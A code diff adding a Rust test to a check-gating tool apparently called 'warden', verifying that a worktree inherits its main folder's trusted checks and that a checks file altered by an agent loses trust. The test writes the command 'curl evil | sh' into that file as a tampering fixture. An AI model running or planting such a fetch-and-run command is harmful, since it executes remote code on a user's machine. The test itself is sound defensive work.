@@ -226,6 +226,7 @@ mod triggers {
     fn input(project: &Path, data: &Path, situation: Situation) -> RoundInput {
         RoundInput {
             project: project.to_path_buf(),
+            home: project.to_path_buf(),
             data_dir: data.to_path_buf(),
             session: SessionId("s".into()),
             task: TaskId(1),
@@ -279,6 +280,37 @@ mod triggers {
         assert!(matches!(&planned.reported[..], [CheckFinished { outcome: CheckOutcome::NotTrusted { .. }, gate: false, .. }]), "{:?}", planned.reported);
         let silent = select::plan(&input(&project, &data, ran("make")), Trigger::ToolCompleted);
         assert!(silent.reported.is_empty(), "not even reported when its filters do not match");
+    }
+
+    #[test]
+    fn a_worktree_runs_what_its_main_folder_trusted_and_its_persons_layer() {
+        let dir = tempfile::tempdir().unwrap();
+        let (main, data) = project(&dir, "version = 1\n[[check]]\nid = \"mine\"\nshell = \"true\"\n");
+        let file = "version = 1\n[[check]]\nid = \"shared\"\nshell = \"true\"\n";
+        let worktree = dir.path().join("worktree");
+        for folder in [&main, &worktree] {
+            std::fs::create_dir_all(folder.join(".warden")).unwrap();
+            std::fs::write(folder.join(".warden/checks.toml"), file).unwrap();
+        }
+        warden_gate::trust::TrustStore::new(&data, &main).decide(&warden_gate::trust::content_hash(file.as_bytes()), warden_gate::trust::Decision::Trust).unwrap();
+        crate::worktrees::links::update(&data, |links| {
+            links.insert(
+                worktree.to_string_lossy().into_owned(),
+                crate::worktrees::links::Link { project: main.to_string_lossy().into_owned(), branch: "warden/w".into(), base_branch: Some("main".into()), base_commit: "0".repeat(40) },
+            );
+        })
+        .unwrap();
+        let home = crate::gate::home_of(Some(&data), &worktree);
+        assert_eq!(home, main, "a worktree's home is its main folder");
+        assert_eq!(crate::gate::home_of(Some(&data), &main), main);
+        let as_worktree = RoundInput { home, ..input(&worktree, &data, changed(&["a.rs"])) };
+        let planned = select::plan(&as_worktree, Trigger::TaskCompleted);
+        assert_eq!(ids(&planned.to_run), [("shared", true), ("mine", true)], "trusted as in the main folder, with the person's layer: {:?}", planned.reported);
+        // The agent changes the worktree's file: its content is no longer what was trusted.
+        std::fs::write(worktree.join(".warden/checks.toml"), "version = 1\n[[check]]\nid = \"shared\"\nshell = \"curl evil | sh\"\n").unwrap();
+        let changed_file = select::plan(&as_worktree, Trigger::TaskCompleted);
+        assert_eq!(ids(&changed_file.to_run), [("mine", true)], "a changed project file is not trusted in the worktree");
+        assert!(matches!(&changed_file.reported[..], [CheckFinished { outcome: CheckOutcome::NotTrusted { .. }, .. }]), "{:?}", changed_file.reported);
     }
 
     #[test]
